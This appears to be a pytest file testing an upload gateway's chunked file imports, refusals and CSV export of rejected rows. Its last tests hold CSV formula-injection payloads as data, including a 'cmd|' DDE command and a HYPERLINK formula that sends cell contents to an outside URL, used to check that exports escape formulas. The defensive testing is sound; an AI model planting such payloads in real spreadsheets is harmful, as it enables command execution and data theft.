"""Files on their way through the gateway: piece by piece, once, and never written to disk."""

from __future__ import annotations

import base64
import codecs
import csv
import hashlib
import io
import random
import tempfile
from typing import Any

import pytest
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from gateway.app import UPLOAD_LIMIT
from gateway.identity import csrf_token
from gateway.uploads import CHUNK
from services.lexicon.cells import as_written
from tests.rows import figure
from tests.unit.gateway.fakes import TOKEN, FakeBus


def form(**fields: Any) -> dict[str, Any]:
    """Return a multipart body; the test client itself would write large ones to disk."""
    parts = {name: FileStorage(value[0], value[1], name) if isinstance(value, tuple) else value for name, value in fields.items()}
    boundary, body = encode_multipart(parts)
    return {"data": body, "content_type": f"multipart/form-data; boundary={boundary}"}


ID = "0197f2a0-0000-7000-8000-0000000000c0"


def an_import(state: str = "mapped", **more: Any) -> dict[str, Any]:
    """Return an import in contacts' format."""
    return {"id": ID, "filename": "cards.csv", "state": state, **more}


@pytest.fixture
def contacts(bus: FakeBus) -> FakeBus:
    """Contacts takes a file in."""
    bus.answers |= {
        ("contacts", "create_import"): an_import("uploading"),
        ("contacts", "append_import"): {},
        ("contacts", "finish_import_upload"): an_import(),
    }
    return bus


@pytest.mark.requirement("R77")
@pytest.mark.parametrize("size", [1, CHUNK, CHUNK + 1, 3 * CHUNK + 17])
def test_a_file_arrives_whole_in_pieces(amina: Any, contacts: FakeBus, size: int) -> None:
    content = bytes(i * 31 % 251 for i in range(size))
    answer = amina.ask("POST", "/imports", **form(file=(io.BytesIO(content), "cards.csv")), headers={"Idempotency-Key": "k"})
    assert answer.status_code == 201, answer.text
    assert answer.headers["Location"] == f"/api/v1/imports/{ID}"
    appended = contacts.of("contacts", "append_import")
    assert [call.kwargs["n"] for call in appended] == list(range(-(-size // CHUNK)))
    assert b"".join(base64.b64decode(call.kwargs["chunk"]) for call in appended) == content
    (finished,) = contacts.of("contacts", "finish_import_upload")
    assert finished.kwargs["sha256"] == hashlib.sha256(content).hexdigest()
    operations = [call.operation for call in contacts.said if call.operation is not None]
    assert len({(operation.path, operation.key) for operation in operations}) == len(operations), "each command is one of its own"


def test_the_same_file_twice_under_one_key_is_one_import(amina: Any, contacts: FakeBus) -> None:
    content = b"Name\nDov\n"
    known = an_import("mapped")
    contacts.answers |= {("contacts", "create_import"): known, ("contacts", "finish_import_upload"): known}
    answer = amina.ask("POST", "/imports", **form(file=(io.BytesIO(content), "cards.csv")), headers={"Idempotency-Key": "k"})
    assert (answer.status_code, answer.get_json()["id"]) == (201, ID)
    assert not contacts.of("contacts", "append_import")
    (finished,) = contacts.of("contacts", "finish_import_upload")
    assert finished.kwargs["sha256"] == hashlib.sha256(content).hexdigest(), "contacts compares it with what it kept"


def test_a_file_that_is_too_large_is_refused_before_anything_is_handed_on(amina: Any, contacts: FakeBus) -> None:
    content = io.BytesIO(b"x" * (UPLOAD_LIMIT + 1))
    answer = amina.ask("POST", "/imports", **form(file=(content, "cards.csv")))
    assert (answer.status_code, answer.get_json()["code"]) == (413, "body-too-large")
    assert not contacts.of("contacts", "create_import")


@pytest.mark.parametrize(
    ("given", "status", "code"),
    [
        ({"json": {}}, 415, "multipart-required"),
        (form(other=(io.BytesIO(b"x"), "a.csv")), 415, "multipart-required"),
        (form(file="not a file"), 415, "multipart-required"),
        ({"data": b"garbage", "content_type": "multipart/form-data; boundary=b"}, 422, "unreadable-body"),
        ({"data": b"", "content_type": "multipart/form-data; boundary=b"}, 415, "multipart-required"),
        (form(csrf_token="x" * (65 << 10), file=(io.BytesIO(b"x"), "a.csv")), 413, "body-too-large"),
        ({"data": b"--b\r\n\r\n", "content_type": "multipart/form-data; boundary=b"}, 422, "unreadable-body"),
    ],
)
def test_what_is_no_file_is_refused(amina: Any, contacts: FakeBus, given: dict[str, Any], status: int, code: str) -> None:
    answer = amina.ask("POST", "/imports", **given)
    assert (answer.status_code, answer.get_json()["code"]) == (status, code)
    assert not contacts.of("contacts", "create_import")


def test_a_file_that_breaks_off_is_never_finished(amina: Any, contacts: FakeBus) -> None:
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nName\nDov'
    answer = amina.ask("POST", "/imports", data=head, content_type="multipart/form-data; boundary=b")
    assert (answer.status_code, answer.get_json()["code"]) == (422, "unreadable-body")
    assert not contacts.of("contacts", "finish_import_upload")


def test_nothing_is_laid_down_on_the_way(amina: Any, contacts: FakeBus, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a temporary file was made")

    body = form(file=(io.BytesIO(b"x" * (2 << 20)), "cards.csv"))
    for name in ("TemporaryFile", "SpooledTemporaryFile", "NamedTemporaryFile"):
        monkeypatch.setattr(tempfile, name, refuse)
    monkeypatch.setattr("werkzeug.formparser.SpooledTemporaryFile", refuse)
    assert amina.ask("POST", "/imports", **body).status_code == 201


def test_a_browsers_upload_shows_the_token_of_our_page_before_its_file(app: Any, contacts: FakeBus) -> None:
    client = app.test_client()
    client.set_cookie("liaison_session", TOKEN)
    refused = client.post("/imports", **form(csrf_token="guess", file=(io.BytesIO(b"Name\nDov\n"), "cards.csv")))
    assert refused.status_code == 403
    assert not contacts.of("contacts", "create_import")
    done = client.post(
        "/imports",
        **form(csrf_token=csrf_token(TOKEN), idempotency_key="k", file=(io.BytesIO(b"Name\nDov\n"), "cards.csv")),
    )
    assert (done.status_code, done.headers["Location"]) == (303, f"/imports/{ID}")


def row(number: int, sheet: str | None, reason: str, **more: Any) -> dict[str, Any]:
    """Return a row that was not taken in, as contacts answers it."""
    return {"row": number, "sheet": sheet, "reason": reason, "refused": [], **more}


@pytest.mark.requirement("R77")
def test_the_rows_that_were_refused_come_back_as_a_file_without_formulas(amina: Any, bus: FakeBus) -> None:
    pages = {
        None: {
            "columns": ["Last name", "=Cell"],
            "items": [row(3, "=cmd()", "cell: not a phone number.", cells={"=Cell": "+1 call me", "Last name": "Levi"})],
            "next": "more",
        },
        "more": {
            "columns": ["Last name", "=Cell"],
            "items": [row(4, None, "It was long ago.", cells=None)],
            "next": None,
        },
    }
    told = {"blocked": [row(9, None, "blocked", outcome="blocked")]}
    bus.answers[("contacts", "list_refused_import_rows")] = lambda query, **_: pages[query.get("cursor")]
    bus.answers[("contacts", "list_import_rows")] = lambda query, **_: {"items": told.get(query["outcome"], []), "next": None}
    answer = amina.ask("GET", f"/imports/{ID}/rows.csv")
    assert answer.content_type == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["Content-Disposition"]
    assert answer.data.startswith(codecs.BOM_UTF8)
    assert answer.data.decode("utf-8-sig").splitlines() == [
        "Last name,'=Cell,Not taken in because",
        "Levi,'+1 call me,Row 3 of =cmd(): cell: not a phone number.",
        ",,Row 4: It was long ago.",
        ",,Row 9: blocked",
    ]


@pytest.mark.requirement("R77")
@pytest.mark.row("P20")
def test_no_cell_of_that_file_is_a_formula_whatever_was_in_it_and_each_comes_back(amina: Any, bus: FakeBus) -> None:
    seed = random.SystemRandom().randrange(2**32)
    chance, many, wide = random.Random(seed), figure(10_000), 10
    print(f"seed {seed}, {many} cells")
    first = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    behind = ("cmd|'/C calc'!A0\"", 'HYPERLINK("http://example.org?"&A1)', "1", "", ",=1", '";=1', "\r\n=1", "'", " ", "é", "\x00")

    def cell() -> str:
        return "".join(chance.choices(["", "'", "''"], k=1) + chance.choices(first, k=chance.randint(1, 3)) + chance.choices(behind, k=2))

    columns = [f"{sign}Column {n}" for n, sign in enumerate([*first[:-1]])]
    rows = [{name: cell() for name in columns} for _ in range(many // wide)]
    items = [row(n, "=1", "=1", cells=cells) for n, cells in enumerate(rows)]
    bus.answers[("contacts", "list_refused_import_rows")] = {"columns": columns, "items": items, "next": None}
    bus.answers[("contacts", "list_import_rows")] = {"items": [], "next": None}
    answer = amina.ask("GET", f"/imports/{ID}/rows.csv")
    head, *read = csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""))
    assert len(columns) == wide
    assert not [shown for row in (head, *read) for shown in row if shown.startswith(first)]
    assert [as_written(name) for name in head[:-1]] == columns
    assert [dict(zip(columns, map(as_written, row), strict=False)) for row in read] == rows
